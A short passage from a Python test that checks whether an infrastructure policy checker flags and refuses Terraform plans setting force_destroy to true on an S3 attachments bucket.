    before: bool | None,
    refused: bool,
) -> None:
    bucket = "aws_s3_bucket.attachments"
    of = plan(change(bucket, "update", before={"force_destroy": before}, after={"force_destroy": True}))

    assert [finding.address for finding in find(of) if finding.refused] == [bucket] * refused
